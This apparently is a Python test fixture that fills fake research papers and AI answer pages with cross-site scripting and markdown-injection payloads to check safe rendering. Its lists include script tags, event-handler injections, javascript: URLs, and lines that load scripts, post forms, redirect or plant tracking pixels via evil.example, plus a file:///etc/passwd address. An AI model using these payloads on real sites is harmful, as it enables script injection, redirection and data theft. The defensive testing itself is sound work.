"""Texts that try to break out of a page, and a library and an answer made of nothing else."""

from tests.fakes.web_papers import Json, card, citation, paper
from tests.fakes.web_scenes import Scene, answer, told

EVENTS = ("onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationend")
TAGS = ("img", "svg", "body", "iframe", "video", "audio", "object", "embed", "details", "marquee")
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    *(f"<{tag} src=https://evil.example/{tag} onerror=alert(1)>" for tag in TAGS),
    *(f'<input autofocus {event}="alert(1)">' for event in EVENTS),
    *(f"\" {event}='alert(1)' x=\"" for event in EVENTS),
    "<a href=javascript:alert(1)>here</a>",
    '<a href="data:text/html,<script>alert(1)</script>">here</a>',
    "<form action=https://evil.example><button>send</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "[here](https://evil.example)",
    "[here](javascript:alert(1))",
    "![pixel](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[1]: https://evil.example\n\nSee [1].",
    "[1](https://evil.example)",
    "<https://evil.example>",
    "https://evil.example/bare",
    "[^1]: <img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`${alert(1)}`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\u202eevil\u202c \u200b\ufeff",
    "**<img src=x onerror=alert(1)>**",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| c | d |",
    "```html\n<img src=x onerror=alert(1)>\n```",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "//evil.example",
    "https:javascript:alert(1)",
]


def hostile_papers() -> list[Json]:
    """Papers of which every field is a vector."""
    return [
        paper(
            f"evil{i}",
            VECTORS[i % len(VECTORS)],
            f"First {VECTORS[(i + 1) % len(VECTORS)]}. Then {VECTORS[(i + 2) % len(VECTORS)]}.",
            (VECTORS[(i + 3) % len(VECTORS)],),
            2020,
            VECTORS[(i + 4) % len(VECTORS)],
            url=address,
            doi=VECTORS[(i + 5) % len(VECTORS)],
            arxiv_id=VECTORS[(i + 6) % len(VECTORS)],
            pubmed_id=VECTORS[(i + 7) % len(VECTORS)],
            categories=VECTORS,
        )
        for i, address in enumerate(ADDRESSES)
    ]


def hostile_scene(question: str) -> Scene:
    """An answer whose text, notes, reasons and papers are vectors."""
    papers = hostile_papers()
    cited = [citation(n, whole, 0) for n, whole in enumerate(papers[:6], 1)]
    text = "\n\n".join(f"{vector} [{i % 6 + 1}]" for i, vector in enumerate(VECTORS))
    rows = [(v, [i % 6 + 1], "altered", v) for i, v in enumerate(VECTORS)]
    return told(
        answer(
            question,
            text,
            rows,
            cited,
            also_retrieved=[card(whole) for whole in papers[6:]],
            notes=VECTORS,
            query=VECTORS[0],
            suggestions=VECTORS[:3],
            engine=VECTORS[1],
        )
    )
